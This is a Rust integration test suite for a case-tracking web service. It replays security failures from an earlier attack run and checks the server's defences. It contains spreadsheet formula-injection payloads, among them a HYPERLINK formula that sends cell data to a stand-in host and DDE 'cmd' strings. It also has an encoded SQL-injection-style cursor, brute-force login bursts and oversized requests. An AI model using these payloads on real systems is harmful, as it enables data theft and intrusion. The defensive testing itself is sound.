//! The attack run, kept: each failure it found, replayed over HTTP against the real server
//! (parallel bursts included), on whichever database the suite runs on.

mod common;

use std::time::Duration;

use casetrack::db::schema::{audit_log, cases, outbox, unit_closure, units, users};
use casetrack::domain::role::Role;
use casetrack::jobs;
use casetrack::mail::Mailer;
use casetrack::model::unit::Unit;
use chrono::{TimeZone, Utc};
use common::world::World;
use common::{Reply, TestApp, spawn, spawn_with};
use diesel::prelude::*;
use futures_util::future::join_all;
use reqwest::Method;
use serde_json::{Value, json};

/// The problem code at the end of a problem's `type`.
fn problem_code(r: &Reply) -> String {
    r.body["type"].as_str().unwrap_or("").rsplit(':').next().unwrap_or("").to_string()
}

/// A fresh access token for `username` (after the test clock has moved past the old one's life).
async fn token(app: &TestApp, username: &str) -> String {
    app.login(username, common::PASSWORD).await.expect(200).body["access_token"].as_str().unwrap().to_string()
}

/// A server with a file mailer, and a Điện Biên case that Ba Đình handles, due at the end
/// of 2024-10-31; Ba Đình's head heads the unit, so its overdue cases alert them.
async fn case_of_ba_dinh_in_handling(title: &str) -> (TestApp, tempfile::TempDir, World, Value) {
    let (app, outbox) = spawn_with_outbox(|_| {}).await;
    let w = World::new(&app).await;
    app.with_conn(|c| {
        diesel::update(units::table.find(&w.ba_dinh.id)).set(units::head_user_id.eq(&w.ba_dinh_head.user.id)).execute(c)
    })
    .unwrap();
    let case = w.log_case(&app, &w.dien_bien, title).await;
    w.act(&app, &w.city_reviewer, &case, w.transition_body("accept")).await.expect(200);
    (app, outbox, w, case)
}

fn sorted_statuses(replies: &[Reply]) -> Vec<u16> {
    let mut s: Vec<u16> = replies.iter().map(|r| r.status.as_u16()).collect();
    s.sort();
    s
}

/// A server whose file mailer writes into a folder of the test's own.
async fn spawn_with_outbox(tune: impl FnOnce(&mut casetrack::config::Settings)) -> (TestApp, tempfile::TempDir) {
    let outbox = tempfile::tempdir().unwrap();
    let dir = outbox.path().to_path_buf();
    let app = spawn_with(move |s| {
        s.mail.outbox_dir = dir;
        tune(s);
    })
    .await;
    (app, outbox)
}

// 1. Spreadsheet formula injection.

#[tokio::test]
async fn csv_exports_defuse_formulas_and_keep_numbers() {
    let app = spawn().await;
    let w = World::new(&app).await;
    // A district named as a formula: it heads a row of the report and names the subject.
    let evil_name = "=HYPERLINK(\"http://evil.example/\",\"Đơn vị\")";
    app.with_conn(|c| diesel::update(units::table.find(&w.ba_dinh.id)).set(units::name.eq(evil_name)).execute(c))
        .unwrap();
    let mut body = w.case_body(&w.ba_dinh, "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")");
    body["subject"]["person_name"] = json!("+cmd|' /C calc'!A0");
    body["subject"]["person_position"] = json!("@SUM(1+1)*cmd|' /C calc'!A0");
    app.post("/api/v1/cases", Some(&w.inspector.token), body).await.expect(201);

    let r = app.get("/api/v1/cases?format=csv", &w.city_reviewer.token).await.expect(200);
    let csv = r.body.as_str().unwrap().trim_start_matches('\u{feff}').to_string();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    let cells: Vec<&str> = row.iter().collect();
    assert!(cells.contains(&"'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"), "{cells:?}");
    assert!(cells.contains(&"'+cmd|' /C calc'!A0"), "{cells:?}");
    assert!(cells.contains(&"'@SUM(1+1)*cmd|' /C calc'!A0"), "{cells:?}");
    assert!(cells.contains(&"'=HYPERLINK(\"http://evil.example/\",\"Đơn vị\")"), "{cells:?}");
    for cell in &cells {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a live formula: {cell}");
    }

    // The report names the unit too; its counts stay plain numbers.
    let r = app.get("/api/v1/reports/summary?format=csv", &w.city_reviewer.token).await.expect(200);
    let text = r.body.as_str().unwrap();
    let mut reader = csv::ReaderBuilder::new().flexible(true).from_reader(text.as_bytes());
    let mut saw_unit = false;
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "a live formula: {cell}");
            assert!(!cell.starts_with('-') || cell[1..].chars().all(|c| c.is_ascii_digit() || c == '.'), "{cell}");
            saw_unit |= cell == "'=HYPERLINK(\"http://evil.example/\",\"Đơn vị\")";
        }
    }
    assert!(saw_unit, "the report lists the unit, defused: {text}");

    // XLSX writes the same text as a string cell, never a formula.
    let r = app
        .http
        .get(format!("{}/api/v1/cases?format=xlsx", app.base))
        .bearer_auth(&w.city_reviewer.token)
        .send()
        .await
        .unwrap();
    let bytes = r.bytes().await.unwrap().to_vec();
    use calamine::{Data, Reader, Xlsx};
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
    let name = book.sheet_names()[0].clone();
    let formulas = book.worksheet_formula(&name).unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "no formula cells");
    let range = book.worksheet_range(&name).unwrap();
    assert!(
        range
            .used_cells()
            .any(|(_, _, c)| *c == Data::String("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")".into())),
        "the title is kept verbatim as text"
    );
}

// 2. Sign-in throttling in parallel.

#[tokio::test]
async fn a_parallel_burst_of_wrong_passwords_gets_no_more_attempts_than_the_limit() {
    let app = spawn().await;
    app.user("nan.nhan", Role::Inspector, None);
    let burst = (0..40).map(|i| app.login("nan.nhan", if i % 2 == 0 { "sai-mat-khau-1" } else { "sai-mat-khau-2" }));
    let replies = join_all(burst).await;
    let refused = replies.iter().filter(|r| r.status == 401).count();
    let throttled = replies.iter().filter(|r| r.status == 429).count();
    assert_eq!((refused, throttled), (5, 35), "{:?}", sorted_statuses(&replies));
    // Even the right password now waits.
    app.login("nan.nhan", common::PASSWORD).await.expect(429);

    // Eleven wrong guesses and the right one at once: held to what the same attempts in
    // some sequence would get. Before a success at most four wrong ones are checked, and
    // (a success forgetting earlier failures) at most five after it.
    app.user("nan.nhan2", Role::Inspector, None);
    let mut burst: Vec<_> = (0..11).map(|_| app.login("nan.nhan2", "doan-bua-bai")).collect();
    burst.insert(6, app.login("nan.nhan2", common::PASSWORD));
    let replies = join_all(burst).await;
    let signed_in = replies.iter().filter(|r| r.status == 200).count();
    let wrong_checked = replies.iter().filter(|r| r.status == 401).count();
    let limit = if signed_in == 1 { 4 + 5 } else { 5 };
    assert!(wrong_checked <= limit, "{wrong_checked} wrong passwords checked: {:?}", sorted_statuses(&replies));
    assert!(replies.iter().all(|r| [200, 401, 429].contains(&r.status.as_u16())));
}

#[tokio::test]
async fn an_office_signing_in_at_once_behind_one_address_is_never_throttled() {
    // Everyone arriving at 8:00 behind the city network's one address: only failures count.
    let app = spawn().await;
    let names: Vec<String> = (0..30).map(|i| format!("can.bo{i}")).collect();
    for name in &names {
        app.user(name, Role::Inspector, None);
    }
    let replies = join_all(names.iter().map(|name| app.login(name, common::PASSWORD))).await;
    assert!(replies.iter().all(|r| r.status == 200), "{:?}", sorted_statuses(&replies));
}

#[tokio::test]
async fn a_parallel_burst_from_one_address_is_held_to_the_address_limit() {
    let app = spawn().await;
    let names: Vec<String> = (0..40).map(|i| format!("khong-co-{i}")).collect();
    let burst = names.iter().map(|name| app.login(name, "mat-khau-bat-ky"));
    let replies = join_all(burst).await;
    let refused = replies.iter().filter(|r| r.status == 401).count();
    assert_eq!(refused, 20, "per address limit: {:?}", sorted_statuses(&replies));
}

// 3. Values the database cannot store.

#[tokio::test]
async fn cursors_and_dates_out_of_range_are_422s_naming_the_parameter() {
    let app = spawn().await;
    let w = World::new(&app).await;
    let case = w.log_case(&app, &w.dien_bien, "Vụ việc để thử").await;
    let case_id = case["id"].as_str().unwrap();
    let events = format!("/api/v1/cases/{case_id}/events");
    let lists: [(&str, &str); 8] = [
        ("/api/v1/users", &w.admin.token),
        ("/api/v1/units", &w.admin.token),
        ("/api/v1/campaigns", &w.inspector.token),
        ("/api/v1/cases", &w.city_reviewer.token),
        (&events, &w.city_reviewer.token),
        ("/api/v1/me/notifications", &w.ba_dinh_head.token),
        ("/api/v1/admin/outbox", &w.admin.token),
        ("/api/v1/audit", &w.admin.token),
    ];
    // `AA` decodes to a NUL byte; the others to text that is no id.
    for cursor in ["AA", "bm90LWFuLWlk", "JyBPUiAxPTEgLS0"] {
        for (path, token) in &lists {
            let r = app.get(&format!("{path}?cursor={cursor}"), token).await.expect(422);
            assert_eq!(r.error_fields(), vec!["cursor"], "{path}");
        }
    }
    for (path, token) in [
        ("/api/v1/cases?from=-9999-01-01", &w.city_reviewer.token),
        ("/api/v1/cases?from=0999-01-01", &w.city_reviewer.token),
        ("/api/v1/reports/summary?from=-9999-01-01", &w.city_reviewer.token),
        ("/api/v1/reports/series?from=%2B99999-12-31", &w.city_reviewer.token),
        ("/api/v1/audit?from=-9999-01-01", &w.admin.token),
        ("/api/v1/audit?from=0001-01-01T00:00:00Z", &w.admin.token),
    ] {
        let r = app.get(path, token).await.expect(422);
        assert_eq!(r.error_fields(), vec!["from"], "{path}");
    }

    let before = app.audit_count();
    let campaign = json!({"title": "Đợt kiểm tra", "kind": "inspection", "directive_id": w.campaign.directive_id,
        "starts_on": "-9999-01-01", "ends_on": "+99999-12-31", "target_unit_ids": [w.ba_dinh.id],
        "lead_id": w.inspector.user.id});
    let r = app.post("/api/v1/campaigns", Some(&w.city_reviewer.token), campaign).await.expect(422);
    assert_eq!(r.error_fields(), vec!["starts_on", "ends_on"]);

    let mut accept = w.transition_body("accept");
    accept["due_at"] = json!("+99999-12-31");
    let r = w.act(&app, &w.city_reviewer, &case, accept.clone()).await.expect(422);
    assert_eq!(r.error_fields(), vec!["due_at"]);
    accept["due_at"] = json!("10000-01-01T00:00:00Z");
    w.act(&app, &w.city_reviewer, &case, accept.clone()).await.expect(422);
    assert_eq!(app.audit_count(), before, "nothing was stored");

    // The last date in range is a deadline like any other: not overdue anywhere.
    accept["due_at"] = json!("9999-12-31");
    let accepted = w.act(&app, &w.city_reviewer, &case, accept).await.expect(200).body;
    assert_eq!(accepted["overdue"], false);
    let overdue = app.get("/api/v1/cases?overdue=true", &w.city_reviewer.token).await.expect(200);
    assert!(overdue.body["items"].as_array().unwrap().iter().all(|c| c["id"] != case["id"]));
    let report = app.get("/api/v1/reports/summary", &w.city_reviewer.token).await.expect(200);
    assert_eq!(report.body["cases"]["overdue"], 0);

    let mut close = w.transition_body("close");
    close["decision"]["decided_on"] = json!("-0001-01-01");
    let r = w.act(&app, &w.city_reviewer, &accepted, close).await.expect(422);
    assert_eq!(r.error_fields(), vec!["decision.decided_on"]);
}

// 4. Invariants under concurrent requests.

#[tokio::test]
async fn two_admins_deactivating_each_other_leave_one_active() {
    let app = spawn().await;
    for trial in 0..8 {
        let a = app.signed_in(&format!("quantri.a{trial}"), Role::Admin, None).await;
        let b = app.signed_in(&format!("quantri.b{trial}"), Role::Admin, None).await;
        // Only these two are active administrators.
        app.with_conn(|c| {
            diesel::update(users::table.filter(users::role.eq("admin")))
                .filter(users::id.ne_all([a.user.id.clone(), b.user.id.clone()]))
                .set(users::active.eq(false))
                .execute(c)
        })
        .unwrap();
        let off = json!({"active": false});
        let (path_a, path_b) = (format!("/api/v1/users/{}", a.user.id), format!("/api/v1/users/{}", b.user.id));
        let (ra, rb) = tokio::join!(
            app.patch(&path_b, &a.token, off.clone(), None),
            app.patch(&path_a, &b.token, off.clone(), None),
        );
        let active: i64 = app
            .with_conn(|c| {
                users::table.filter(users::role.eq("admin")).filter(users::active.eq(true)).count().get_result(c)
            })
            .unwrap();
        assert_eq!(active, 1, "trial {trial}: {} / {}", ra.body, rb.body);
        let mut codes = vec![ra.status.as_u16(), rb.status.as_u16()];
        codes.sort();
        assert_eq!(codes[0], 200, "one of them succeeded");
        assert!(codes[1] == 409 || codes[1] == 401, "the other is refused, not a 500: {codes:?}");
        for r in [&ra, &rb] {
            if r.status == 409 {
                assert_eq!(problem_code(r), "last-admin");
            }
        }
    }
}

#[tokio::test]
async fn units_moved_under_each_other_at_once_never_make_a_cycle() {
    let app = spawn().await;
    let w = World::new(&app).await;
    for trial in 0..15 {
        let x = app.unit(&format!("X-{trial}"), "Đơn vị X", "other", Some(&w.city));
        let y = app.unit(&format!("Y-{trial}"), "Đơn vị Y", "other", Some(&w.city));
        let (path_x, path_y) = (format!("/api/v1/units/{}", x.id), format!("/api/v1/units/{}", y.id));
        let (rx, ry) = tokio::join!(
            app.patch(&path_x, &w.admin.token, json!({"parent_id": y.id}), None),
            app.patch(&path_y, &w.admin.token, json!({"parent_id": x.id}), None),
        );
        assert_eq!(sorted_statuses(&[rx, ry]), vec![200, 422], "trial {trial}");
        let (x_under_y, y_under_x) = app.with_conn(|c| {
            (Unit::is_in_subtree(c, &y.id, &x.id).unwrap(), Unit::is_in_subtree(c, &x.id, &y.id).unwrap())
        });
        assert!(x_under_y ^ y_under_x, "trial {trial}: exactly one is under the other");
    }
    // The closure table still says each unit is its own ancestor exactly once, and no more.
    let selfs: i64 = app
        .with_conn(|c| {
            unit_closure::table.filter(unit_closure::ancestor_id.eq(unit_closure::descendant_id)).count().get_result(c)
        })
        .unwrap();
    let all_units: i64 = app.with_conn(|c| units::table.count().get_result(c)).unwrap();
    assert_eq!(selfs, all_units);
}

#[tokio::test]
async fn the_same_username_or_unit_code_created_twice_at_once_is_one_201_and_one_409() {
    let app = spawn().await;
    let w = World::new(&app).await;
    for trial in 0..8 {
        let user = json!({"username": format!("trung.ten{trial}"), "full_name": "Trùng Tên", "role": "inspector"});
        let (a, b) = tokio::join!(
            app.post("/api/v1/users", Some(&w.admin.token), user.clone()),
            app.post("/api/v1/users", Some(&w.admin.token), user.clone()),
        );
        let replies = [a, b];
        assert_eq!(sorted_statuses(&replies), vec![201, 409], "trial {trial}");
        let clash = replies.iter().find(|r| r.status == 409).unwrap();
        assert_eq!(problem_code(clash), "username-taken");

        let unit =
            json!({"code": format!("TRUNG-MA-{trial}"), "name": "Trùng mã", "kind": "other", "parent_id": w.city.id});
        let (a, b) = tokio::join!(
            app.post("/api/v1/units", Some(&w.admin.token), unit.clone()),
            app.post("/api/v1/units", Some(&w.admin.token), unit.clone()),
        );
        let replies = [a, b];
        assert_eq!(sorted_statuses(&replies), vec![201, 409], "trial {trial}");
        assert_eq!(problem_code(replies.iter().find(|r| r.status == 409).unwrap()), "unit-code-taken");
    }
    // The clash codes differ from the workflow's and the version check's.
    let case = w.case_in(&app, "closed").await;
    let r = w.act(&app, &w.city_reviewer, &case, w.transition_body("accept")).await.expect(409);
    assert_eq!(problem_code(&r), "transition-not-allowed");
}

#[tokio::test]
async fn no_case_lands_in_a_campaign_after_it_is_concluded() {
    let app = spawn().await;
    let w = World::new(&app).await;
    let campaign_path = format!("/api/v1/campaigns/{}", w.campaign.id);
    let creates = (0..12).map(|i| {
        let body = w.case_body(&w.dien_bien, &format!("Vụ việc song song {i}"));
        app.post("/api/v1/cases", Some(&w.inspector.token), body)
    });
    let conclude = app.patch(&campaign_path, &w.city_reviewer.token, json!({"status": "concluded"}), None);
    let (created, concluded) = tokio::join!(join_all(creates), conclude);
    concluded.expect(200);
    for r in &created {
        assert!(r.status == 201 || r.status == 422, "{}", r.body);
        if r.status == 422 {
            assert_eq!(r.error_fields(), vec!["campaign_id"]);
        }
    }
    // Every case that was logged was logged before the campaign was concluded: its audit
    // record (ids are time-ordered) precedes the conclusion's.
    let (case_audits, conclusion): (Vec<String>, String) = app.with_conn(|c| {
        let ids: Vec<String> =
            cases::table.filter(cases::campaign_id.eq(&w.campaign.id)).select(cases::id).load(c).unwrap();
        let audits = audit_log::table
            .filter(audit_log::entity_type.eq("case"))
            .filter(audit_log::action.eq("create"))
            .filter(audit_log::entity_id.eq_any(&ids))
            .select(audit_log::id)
            .load(c)
            .unwrap();
        let conclusion = audit_log::table
            .filter(audit_log::entity_type.eq("campaign"))
            .filter(audit_log::entity_id.eq(&w.campaign.id))
            .select(audit_log::id)
            .first(c)
            .unwrap();
        (audits, conclusion)
    });
    assert_eq!(case_audits.len(), created.iter().filter(|r| r.status == 201).count());
    assert!(case_audits.iter().all(|a| *a < conclusion), "a case was logged after the conclusion");
    app.post("/api/v1/cases", Some(&w.inspector.token), w.case_body(&w.dien_bien, "Muộn")).await.expect(422);
}

#[tokio::test]
async fn a_cycle_in_the_unit_tree_does_not_hang_the_sweep() {
    let (app, _outbox) = spawn_with_outbox(|_| {}).await;
    let w = World::new(&app).await;
    let p = app.unit("VONG-P", "Đơn vị P", "other", Some(&w.city));
    let q = app.unit("VONG-Q", "Đơn vị Q", "other", Some(&p));
    let case = w.log_case(&app, &w.dien_bien, "Vụ việc trong vòng lặp").await;
    let mut accept = w.transition_body("accept");
    accept["responsible_unit_id"] = json!(p.id);
    w.act(&app, &w.city_reviewer, &case, accept).await.expect(200);
    // Bad data written behind the API's back: P's parent is Q, Q's parent is P; no heads, no mail.
    app.with_conn(|c| diesel::update(units::table.find(&p.id)).set(units::parent_id.eq(&q.id)).execute(c)).unwrap();
    app.clock.set(Utc.with_ymd_and_hms(2024, 12, 15, 0, 0, 0).unwrap());
    let settings = app.state.settings.clone();
    let mailer = Mailer::from_settings(&settings.mail).unwrap();
    let pass = jobs::run_once(&app.state.pool, &settings, &mailer, &app.clock);
    let (swept, _) = tokio::time::timeout(Duration::from_secs(60), pass).await.expect("the sweep finished").unwrap();
    assert!(swept.ran);
}

// 5. Notifications outlive scope.

#[tokio::test]
async fn notifications_show_only_cases_the_caller_may_still_see() {
    let (app, _outbox, w, case) = case_of_ba_dinh_in_handling("Vụ việc của Ba Đình").await;
    app.clock.set(Utc.with_ymd_and_hms(2024, 11, 2, 0, 0, 0).unwrap());
    let settings = app.state.settings.clone();
    let mailer = Mailer::from_settings(&settings.mail).unwrap();
    jobs::run_once(&app.state.pool, &settings, &mailer, &app.clock).await.unwrap();
    let (head, admin) = (token(&app, "truong.badinh").await, token(&app, "quantri").await);
    let mine = app.get("/api/v1/me/notifications", &head).await.expect(200);
    assert!(mine.body["items"].as_array().unwrap().iter().any(|n| n["case_id"] == case["id"]), "{}", mine.body);

    // Moved to Cầu Giấy: the Ba Đình case is out of sight, and so is its alert.
    let path = format!("/api/v1/users/{}", w.ba_dinh_head.user.id);
    app.patch(&path, &admin, json!({"unit_id": w.cau_giay.id}), None).await.expect(200);
    app.get(&format!("/api/v1/cases/{}", case["id"].as_str().unwrap()), &head).await.expect(404);
    let mine = app.get("/api/v1/me/notifications", &head).await.expect(200);
    assert_eq!(mine.body["items"], json!([]), "{}", mine.body);
}

// 6. Campaign membership cannot widen a reviewer's scope.

#[tokio::test]
async fn a_district_reviewer_cannot_grant_access_beyond_their_district() {
    let app = spawn().await;
    let w = World::new(&app).await;
    let case = w.log_case(&app, &w.cau_giay, "Vụ việc ở Cầu Giấy").await;
    let case_path = format!("/api/v1/cases/{}", case["id"].as_str().unwrap());

    // The world's campaign targets Ba Đình and Cầu Giấy: the Ba Đình reviewer may not change it.
    let campaign_path = format!("/api/v1/campaigns/{}", w.campaign.id);
    let widen = json!({"member_ids": [w.inspector.user.id, w.inspector2.user.id, w.outsider.user.id]});
    app.patch(&campaign_path, &w.ba_dinh_reviewer.token, widen.clone(), None).await.expect(403);
    app.get(&case_path, &w.outsider.token).await.expect(404);

    // Their own campaigns target only their subtree.
    let mut mine = json!({"title": "Kiểm tra Ba Đình", "kind": "inspection", "directive_id": w.campaign.directive_id,
        "starts_on": "2024-07-01", "ends_on": "2024-12-31", "lead_id": w.outsider.user.id,
        "target_unit_ids": [w.dien_bien.id, w.cau_giay.id]});
    let r = app.post("/api/v1/campaigns", Some(&w.ba_dinh_reviewer.token), mine.clone()).await.expect(422);
    let fields = r.error_fields();
    assert_eq!(fields.len(), 1);
    assert!(fields[0].starts_with("target_unit_ids["), "{fields:?}");
    mine["target_unit_ids"] = json!([w.dien_bien.id]);
    app.post("/api/v1/campaigns", Some(&w.ba_dinh_reviewer.token), mine).await.expect(201);

    // The city reviewer, whose subtree holds every target, may.
    app.patch(&campaign_path, &w.city_reviewer.token, widen, None).await.expect(200);
}

// 7. Smaller ones.

#[tokio::test]
async fn only_a_failed_message_can_be_retried() {
    let (app, _outbox, w, _case) = case_of_ba_dinh_in_handling("Vụ việc quá hạn").await;
    let now = Utc.with_ymd_and_hms(2024, 11, 2, 0, 0, 0).unwrap().naive_utc();
    let policy = app.state.settings.escalation.clone();
    let swept =
        app.with_conn(|c| jobs::sweep::sweep(c, &policy, chrono_tz::Asia::Ho_Chi_Minh, now, "hanoi.gov.vn")).unwrap();
    assert!(swept.messages > 0);
    let (id, attempts): (String, i32) =
        app.with_conn(|c| outbox::table.select((outbox::id, outbox::attempts)).first(c)).unwrap();
    app.with_conn(|c| diesel::update(outbox::table.find(&id)).set(outbox::attempts.eq(2)).execute(c)).unwrap();
    let path = format!("/api/v1/admin/outbox/{id}/retry");
    let r = app.call(Method::POST, &path, Some(&w.admin.token), None, &[]).await.expect(409);
    assert_eq!(problem_code(&r), "not-retryable");
    let kept: i32 = app.with_conn(|c| outbox::table.find(&id).select(outbox::attempts).first(c)).unwrap();
    assert_eq!((attempts, kept), (0, 2), "a refused retry changes nothing");

    app.with_conn(|c| diesel::update(outbox::table.find(&id)).set(outbox::status.eq("failed")).execute(c)).unwrap();
    let r = app.call(Method::POST, &path, Some(&w.admin.token), None, &[]).await.expect(200);
    assert_eq!((r.body["status"].clone(), r.body["attempts"].clone()), (json!("pending"), json!(0)));
}

/// Sends `GET target` over a raw connection (HTTP clients refuse URLs past 64 KiB) and
/// returns the status, the content type and the body.
async fn raw_get(app: &TestApp, target: &str) -> (u16, String, Value) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut conn = tokio::net::TcpStream::connect(app.base.trim_start_matches("http://")).await.unwrap();
    let request = format!("GET {target} HTTP/1.1\r\nHost: casetrack\r\nConnection: close\r\n\r\n");
    // The server may answer and close before it has read the whole head.
    let _ = conn.write_all(request.as_bytes()).await;
    let mut raw = Vec::new();
    let _ = conn.read_to_end(&mut raw).await;
    let text = String::from_utf8_lossy(&raw).to_string();
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    let status = head.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
    let content_type = head
        .lines()
        .find_map(|l| l.to_ascii_lowercase().strip_prefix("content-type: ").map(str::to_string))
        .unwrap_or_default();
    (status, content_type, serde_json::from_str(body).unwrap_or(Value::Null))
}

#[tokio::test]
async fn a_huge_url_gets_a_problem_document() {
    let app = spawn().await;
    // Up to the 64 KiB the HTTP parser holds, the service refuses it (414); past that the
    // parser answers (400, and 431 past its 128 KiB buffer), rewritten as a problem too.
    for (size, expected) in [(20_000, 414), (60_000, 414), (100_000, 400), (140_000, 431)] {
        let (status, content_type, body) = raw_get(&app, &format!("/api/v1/cases?q={}", "a".repeat(size))).await;
        assert_eq!(status, expected, "{size}");
        assert_eq!(content_type, "application/problem+json", "{size}");
        assert_eq!(body["status"], expected, "{size}");
        assert!(body["detail"].as_str().is_some_and(|d| !d.is_empty()), "{size}: {body}");
    }
    // Every ordinary exchange passes the connection wrapper untouched.
    app.call(Method::GET, "/healthz", None, None, &[]).await.expect(200);
    app.call(Method::GET, "/api/v1/khong-co", None, None, &[]).await.expect(404);
    let (status, _, body) = raw_get(&app, "/healthz").await;
    assert_eq!((status, body["status"].as_str()), (200, Some("ok")));
}

#[tokio::test]
async fn a_download_is_named_for_its_checked_type() {
    let app = spawn().await;
    let w = World::new(&app).await;
    let case = w.log_case(&app, &w.dien_bien, "Vụ việc có tệp").await;
    let base = format!("{}/api/v1/cases/{}/attachments", app.base, case["id"].as_str().unwrap());
    let part = reqwest::multipart::Part::bytes(b"%PDF-1.4 bien ban".to_vec())
        .file_name("bien-ban.html")
        .mime_str("application/pdf")
        .unwrap();
    let form = reqwest::multipart::Form::new().part("file", part);
    let r = app.http.post(&base).bearer_auth(&w.inspector.token).multipart(form).send().await.unwrap();
    assert_eq!(r.status(), 201);
    let created: Value = r.json().await.unwrap();
    let r = app
        .http
        .get(format!("{base}/{}", created["id"].as_str().unwrap()))
        .bearer_auth(&w.city_reviewer.token)
        .send()
        .await
        .unwrap();
    let disposition = r.headers()["content-disposition"].to_str().unwrap().to_string();
    assert!(disposition.contains("filename=\"bien-ban.html.pdf\""), "{disposition}");
    assert_eq!(r.headers()["content-type"], "application/pdf");
}

#[tokio::test]
async fn a_422_lists_every_bad_field_at_once() {
    let app = spawn().await;
    let w = World::new(&app).await;
    let body = json!({"title": "", "severity": "extreme", "detected_on": "20/09/2024",
        "subject": {"kind": "robot", "unit_id": w.ba_dinh.id}, "indicator_ids": []});
    let r = app.post("/api/v1/cases", Some(&w.inspector.token), body).await.expect(422);
    let mut fields = r.error_fields();
    fields.sort();
    assert_eq!(
        fields,
        vec!["campaign_id", "description", "detected_on", "indicator_ids", "severity", "subject.kind", "title"],
        "missing and invalid fields together"
    );

    let path = format!("/api/v1/users/{}", w.inspector.user.id);
    let r = app.patch(&path, &w.admin.token, json!({"full_name": "", "role": "chief", "password": "ngan"}), None).await;
    let mut fields = r.expect(422).error_fields();
    fields.sort();
    assert_eq!(fields, vec!["full_name", "password", "role"]);
}

#[tokio::test]
async fn an_export_larger_than_allowed_is_refused_not_cut_short() {
    let app = spawn_with(|s| s.cases.export_max_rows = 2).await;
    let w = World::new(&app).await;
    for i in 0..3 {
        w.log_case(&app, &w.dien_bien, &format!("Vụ việc {i}")).await;
    }
    for format in ["csv", "xlsx"] {
        let r = app.get(&format!("/api/v1/cases?format={format}"), &w.city_reviewer.token).await.expect(422);
        assert_eq!(r.error_fields(), vec!["format"]);
        assert!(r.body["errors"][0]["message"].as_str().unwrap().contains("thu hẹp"), "{}", r.body);
    }
    // Narrowed to fit, it exports.
    let campaign = format!("/api/v1/cases?format=csv&q={}", "V%E1%BB%A5%20vi%E1%BB%87c%201");
    app.get(&campaign, &w.city_reviewer.token).await.expect(200);
}
